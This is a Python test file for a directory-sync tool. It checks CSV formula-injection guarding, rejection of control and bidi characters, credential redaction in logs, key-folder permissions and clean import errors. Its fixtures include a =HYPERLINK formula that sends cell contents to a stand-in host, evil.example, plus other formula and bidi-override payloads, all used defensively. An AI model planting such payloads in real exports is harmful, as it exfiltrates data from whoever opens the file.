"""Issue 11, cases 4, 9, 11, 12 and 13: exports treat every field as untrusted, free text has a rule
enforced at the origin and in every renderer, logs never hold credentials, key folders are 0700
whatever the umask, an adapter that chokes is one clear CLI line."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import stat
from pathlib import Path

import pytest
import vobject
from hypothesis import given, settings
from hypothesis import strategies as st

from pocsync.directory import exports, freetext, intake
from pocsync.errors import EntryError
from pocsync.ops import logs
from tests.support.cli import run

EVIL_PHONE = '=HYPERLINK("http://evil.example/?x="&B2,"Call")'


def row(**entry) -> dict:
    e = {
        "state": "DEU",
        "kind": "technical",
        "organisation": "Example CSIRT",
        "emails": ["cert@example.org"],
        "holder_epoch": "1763800000000-0000",
    } | entry
    return {
        "key": "DEU/technical",
        "entry": e,
        "origin": "eu",
        "hlc": "1763800000000-0000",
        "cs_id": "sha256:" + "0" * 64,
        "index": 0,
        "seq": 1,
        "author": "staff@eu",
    }


def csv_cells(rows: list[dict]) -> list[dict]:
    return list(csv.DictReader(io.StringIO(exports.to_csv(rows))))


# --- case 4 ---------------------------------------------------------------------------------
def test_case4_formula_in_phones_is_neutralised() -> None:
    cell = csv_cells([row(phones=[EVIL_PHONE])])[0]["phones"]
    assert cell.startswith("'=")
    cell = csv_cells([row(phones=["+493012345678", EVIL_PHONE])])[0]["phones"]
    assert cell.startswith("'+")  # one bad item: the whole cell loses its formula power
    assert csv_cells([row(phones=["+493012345678", "+33123456789"])])[0]["phones"] == "+493012345678; +33123456789"
    assert csv_cells([row(phones=["+0000"])])[0]["phones"] == "'+0000"  # not E.164


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", " =1", "\t=1", "\u00a0=cmd"])
def test_case4_every_column_is_guarded(text: str) -> None:
    cells = csv_cells([row(organisation=text, notes=text, languages=[text], networks=[text])])[0]
    for col in ("organisation", "notes", "languages", "networks"):
        assert not cells[col].lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t")), (col, cells[col])


@given(st.text(max_size=30), st.lists(st.text(max_size=20), max_size=3))
@settings(max_examples=200, deadline=None)
def test_case4_no_cell_of_any_value_starts_a_formula(text: str, items: list[str]) -> None:
    for col in exports.CSV_HEADER:
        cell = exports.safe_cell(items if col in exports.LISTS else text, column=col)
        bare = cell.lstrip(" \u00a0")
        if bare.startswith(("=", "+", "-", "@")):
            assert col == "phones" and all(exports.is_e164(i) for i in items) and items
        assert freetext.problem(cell, multiline=col == "notes") is None


# --- case 13 --------------------------------------------------------------------------------
BAD_TEXT = [
    "nul\x00x",
    "bidi \u202eevil",
    "isolate \u2066x\u2069y",
    "line\u2028sep",
    "nel\u0085x",
    "bell\x07x",
    "para\u2029x",
    "del\x7fx",
]


@pytest.mark.parametrize("bad", BAD_TEXT)
def test_case13_origin_refuses_forbidden_free_text(bad: str) -> None:
    e = {k: v for k, v in row()["entry"].items() if k != "holder_epoch"}
    for field in ("organisation", "notes"):
        with pytest.raises(EntryError) as exc:
            intake.validate_entry(e | {field: bad}, today_iso="2025-11-22")
        assert exc.value.reason == "bad_text" and exc.value.detail["field"] == field
    with pytest.raises(EntryError):
        intake.validate_entry(e | {"secure_channels": [{"name": bad}]}, today_iso="2025-11-22")


def test_case13_allowed_free_text() -> None:
    e = {k: v for k, v in row()["entry"].items() if k != "holder_epoch"}
    ok, _ = intake.validate_entry(
        e | {"notes": "line one\nline two", "organisation": "وزارة\u200f الخارجية"}, today_iso="2025-11-22"
    )
    assert ok["notes"] == "line one\nline two"
    with pytest.raises(EntryError):
        intake.validate_entry(e | {"organisation": "two\nlines"}, today_iso="2025-11-22")


@pytest.mark.parametrize("bad", BAD_TEXT)
def test_case13_every_renderer_neutralises_what_a_member_node_signed(bad: str) -> None:
    r = row(organisation="Org " + bad, notes="n " + bad, person="P " + bad, position=bad)
    card = exports.to_vcard([r])
    assert all(ch not in card for ch in "\x00\u202e\u2066\u2028\u2029\u0085\x07\x7f")
    assert "\u2028" not in card and "\u0085" not in card
    vobject.readOne(card)  # still one well-formed card
    text = exports.to_csv([r])
    assert freetext.problem(text.replace("\r\n", "\n"), multiline=True) is None
    raw = exports.to_json([r]).decode()
    assert all(ch not in raw for ch in "\u202e\u2066\u2028\u2029\u0085\x7f")
    assert json.loads(raw)["entries"][0]["entry"]["organisation"] == "Org " + bad  # same data, escaped


def test_case13_json_export_of_a_lone_surrogate_is_escaped_not_a_crash() -> None:
    raw = exports.to_json([row(notes="x\ud800y")])
    assert b"\\ud800" in raw


# --- case 9 ---------------------------------------------------------------------------------
JWT = "eyJhbGciOiJFUzI1NiIsImtpZCI6ImV1OnQxIn0.eyJzdWIiOiJERVUvdGVjaG5pY2FsIn0.c2lnbmF0dXJlc2lnbmF0dXJl"


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_case9_no_credential_reaches_a_log_line(fmt: str, capsys: pytest.CaptureFixture[str]) -> None:
    logs.setup(fmt, "INFO")
    try:
        access = logging.getLogger("aiohttp.access")
        access.info('127.0.0.1 "GET /v1/entries?access_token=%s HTTP/1.1" 401', JWT)
        logging.getLogger("aiohttp.server").info("Bad header: Authorization: Bearer %s\x01", JWT[:30])
        logging.getLogger("pocsync").info("cookie pocsync_session=%s; other=1", JWT)
        logging.getLogger("pocsync").info("peer said Authorization: Pocsync %s", "QUJD" * 20)
        try:
            raise ValueError(f"Invalid header value: b'Bearer {JWT}'")
        except ValueError:
            logging.getLogger("aiohttp.server").exception("Error handling request")
    finally:
        logging.getLogger().handlers[:] = []
    err = capsys.readouterr().err
    assert err.count("[redacted]") >= 5
    for secret in (JWT, JWT[:30], JWT.split(".")[1], "QUJDQUJDQUJD"):
        assert secret not in err


def test_case9_redaction_keeps_ordinary_lines() -> None:
    line = "pull from http://127.0.0.1:8700 failed: eu seq 12 quarantined (bad_signature)"
    assert logs.redact(line) == line


# --- case 12 --------------------------------------------------------------------------------
def test_case12_key_folders_are_0700_under_umask_000(tmp_path: Path) -> None:
    old = os.umask(0)
    try:
        run("keys", "root-init", "--out", tmp_path / "a" / "sub")
        run("init", "--node", "eu", "--data", tmp_path / "n" / "eu")
    finally:
        os.umask(old)
    for d in (
        tmp_path / "a",
        tmp_path / "a" / "sub",
        tmp_path / "n",
        tmp_path / "n" / "eu",
        tmp_path / "n" / "eu" / "keys",
    ):
        assert stat.S_IMODE(d.stat().st_mode) == 0o700, d
    assert stat.S_IMODE((tmp_path / "a" / "sub" / "root.key").stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "a" / "sub" / "root.pub").stat().st_mode) == 0o644


def test_case12_an_open_existing_folder_is_closed(tmp_path: Path) -> None:
    d = tmp_path / "open"
    d.mkdir()
    d.chmod(0o777)
    run("keys", "root-init", "--out", d)
    assert stat.S_IMODE(d.stat().st_mode) == 0o700


# --- case 11 --------------------------------------------------------------------------------
def test_case11_huge_csv_cell_is_one_clear_line(tmp_path: Path) -> None:
    from tests.support.cli import LocalFederation

    fed = LocalFederation(tmp_path / "fed", nodes=("eu",))
    src = tmp_path / "big.csv"
    src.write_text('state,kind,organisation,emails\nDEU,technical,"' + "x" * 140_000 + '",a@example.org\n')
    res = run("entry", "import", "--data", fed.data("eu"), "--adapter", "csv", src, ok=False)
    assert res.exit_code == 2
    assert "Traceback" not in res.output and "longer than the 1000 allowed" in res.output, res.output
    assert (
        "nothing was committed" in res.output and fed.export("eu") == b""
    )  # one message (rich wraps it at the terminal width)
